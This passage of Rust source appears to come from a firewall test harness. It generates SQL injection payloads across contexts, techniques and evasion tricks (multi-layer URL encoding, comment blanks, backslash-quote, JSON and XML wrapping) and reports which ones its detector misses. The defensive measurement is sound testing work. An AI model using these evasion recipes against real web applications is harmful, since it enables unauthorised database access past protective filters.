            let open = if t.tail {
                let Some(o) = c.tail_open else { continue };
                if !c.union && t.sql.starts_with("union") {
                    continue;
                }
                // `WAITFOR` with no `;` needs a statement boundary SQL Server finds itself
                if !t.sql.starts_with(';') && !t.sql.starts_with("union") && c.wrap.is_some() {
                    continue;
                }
                o
            } else {
                c.open
            };
            let mut end = c.ends[(ti * 7 + ci * 3) % c.ends.len()];
            // a statement stacked after `;` is neither rebalanced by a condition nor closed
            // by a tuple's `)`: a comment cuts the query off
            if t.tail && !t.sql.starts_with("union") && !end.starts_with(['-', '#', '/', ';']) {
                end = "-- ";
            }
            let mut base = lex(open);
            base.push(T::Blank);
            let sql = lex(t.sql);
            if t.tail {
                base.extend(sql);
            } else {
                match c.joint {
                    Joint::Logic => {
                        let conn = if t.family == Tautology { "or" } else { "and" };
                        base.extend([T::Word(conn.into()), T::Blank]);
                        base.extend(sql);
                    }
                    Joint::Comma => {
                        base.pop();
                        base.extend([T::P(",".into()), T::P("(".into())]);
                        base.extend(sql);
                        base.push(T::P(")".into()));
                    }
                    Joint::Where => {
                        base.extend([T::Word("where".into()), T::Blank]);
                        base.extend(sql);
                    }
                }
            }
            let comment = end.is_empty() || !end.as_bytes()[0].is_ascii_alphabetic();
            let plain_value = |e: &Evasion| -> Option<String> {
                let mut toks = (e.tokens)(base.clone());
                let mut s = render(&toks, e.blank);
                if comment {
                    // a comment's blank is written as the value's other blanks are (`--+`,
                    // `--%0b`), except a comment, which `--` needs no more than a letter
                    if !matches!(e.blank, "\t" | "+" | "%0b" | "%a0" | "%0c") {
                        s.push_str(end);
                    } else {
                        s.push_str(&end.replace(' ', e.blank));
                    }
                } else {
                    toks = (e.tokens)(lex(end));
                    let rest = render(&toks, e.blank);
                    if !rest.starts_with('(') || e.name != "parentheses" {
                        s.push_str(e.blank);
                    }
                    s.push_str(&rest);
                }
                if e.name == "backslash-quote" {
                    let q = open.rfind(['\'', '"'])?;
                    s.insert(q, '\\');
                }
                Some(s)
            };
            let reference = plain_value(&EVASIONS[0]).unwrap_or_default();
            for (ei, e) in EVASIONS.iter().enumerate() {
                if c.wrap.is_some() && e.encode != Encode::None {
                    continue;
                }
                let Some(s) = plain_value(e) else { continue };
                if ei > 0 && s == reference {
                    continue;
                }
                let encoded = match e.encode {
                    Encode::None | Encode::InUrl => s,
                    Encode::Url => percent(s.as_bytes()),
                    Encode::DoubleUrl => percent(percent(s.as_bytes()).as_bytes()),
                    Encode::AllBytes => s.bytes().map(|b| format!("%{b:02X}")).collect(),
                };
                let value = match c.wrap {
                    None => encoded,
                    Some((a, b)) if a.starts_with('{') => {
                        let esc = encoded.replace('\\', "\\\\").replace('"', "\\\"");
                        format!("{a}{esc}{b}")
                    }
                    Some((a, b)) => {
                        let esc = encoded.replace('&', "&amp;").replace('<', "&lt;");
                        format!("{a}{esc}{b}")
                    }
                };
                out.push(Form {
                    context: ci,
                    technique: ti,
                    evasion: ei,
                    end,
                    value: value.into_bytes(),
                });
            }
        }
    }
    out
}

/// Prints the matrix's figures (called from `waf_corpus_report`).
pub(super) fn report() {
    let forms = forms();
    let hit: Vec<bool> = forms.iter().map(|f| detect::sqli(&f.value)).collect();
    let total = (hit.iter().filter(|&&h| h).count(), forms.len());
    println!("== SQLi attack matrix (context × technique × evasion, from the SQL grammars) ==");
    println!("sqli matrix: {}", show("detected", total));
    let line = |label: &str, key: &dyn Fn(&Form) -> String, sep: &str| {
        let mut by: BTreeMap<String, (usize, usize)> = BTreeMap::new();
        for (f, &h) in forms.iter().zip(&hit) {
            let e = by.entry(key(f)).or_default();
            e.0 += usize::from(h);
            e.1 += 1;
        }
        let parts: Vec<String> = by
            .iter()
            .map(|(k, (h, n))| format!("{k} {h}/{n}"))
            .collect();
        println!("sqli matrix by {label}: {}", parts.join(sep));
    };
    line("context", &|f| CONTEXTS[f.context].name.to_owned(), "; ");
    line(
        "technique family",
        &|f| TECHNIQUES[f.technique].family.label().to_owned(),
        "; ",
    );
    line("evasion", &|f| EVASIONS[f.evasion].name.to_owned(), "; ");
    line("end", &|f| format!("{:?}", f.end), "; ");
    if std::env::var_os("GWC_WAF_SQLI_MATRIX").is_some_and(|v| v == "dump") {
        for (f, &h) in forms.iter().zip(&hit) {
            println!(
                "MATRIX FORM {} {}",
                if h { "HIT " } else { "miss" },
                String::from_utf8_lossy(&f.value).replace('\n', "\\n")
            );
        }
    }
    if std::env::var_os("GWC_WAF_MISSES").is_none() {
        return;
    }
    // one technique a line: their SQL holds `;` and `|`
    line(
        "technique",
        &|f| TECHNIQUES[f.technique].sql.to_owned(),
        "\nsqli matrix by technique: ",
    );
    let mut groups: BTreeMap<(usize, Family, usize), (usize, usize, &Form)> = BTreeMap::new();
    for (f, &h) in forms.iter().zip(&hit) {
        let key = (f.context, TECHNIQUES[f.technique].family, f.evasion);
        let e = groups.entry(key).or_insert((0, 0, f));
        e.1 += 1;
        if !h {
            if e.0 == 0 {
                e.2 = f;
            }
            e.0 += 1;
        }
    }
    for ((c, fam, e), (missed, n, sample)) in &groups {
        if *missed > 0 {
            println!(
                "MATRIX MISS {missed}/{n} [{} | {} | {}]: {}",
                CONTEXTS[*c].name,
                fam.label(),
                EVASIONS[*e].name,
                String::from_utf8_lossy(&sample.value)
            );
        }
    }
}
